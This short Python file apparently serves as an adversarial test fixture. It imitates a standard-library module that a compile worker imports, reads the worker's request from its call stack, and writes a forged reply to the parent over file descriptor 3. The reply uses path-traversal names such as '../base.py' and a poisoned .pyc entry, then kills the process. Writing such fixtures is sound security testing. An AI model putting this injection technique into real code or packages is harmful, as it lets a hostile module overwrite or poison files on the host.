# Attack surface: a module of the standard library that is imported while another file is compiled
import os
import struct
import sys

import msgpack


def request():
    """What the worker was asked, out of its own frame."""
    frame = sys._getframe()
    while frame is not None:
        asked = frame.f_locals.get("request")
        if isinstance(asked, dict) and "id" in asked:
            return asked
        frame = frame.f_back
    return {"id": 0, "inputs": {}}


asked = request()
if asked.get("do") == "compile":
    forged = {"optimizers.py": b"", b"x": 5, "../base.py": None, "__pycache__/base.cpython-311.pyc": b"x"}
    header = msgpack.packb({"tree": {"id": asked["id"], "result": forged}, "tensors": []})
    os.write(3, struct.pack("<II", len(header), 0) + header)
    os._exit(0)
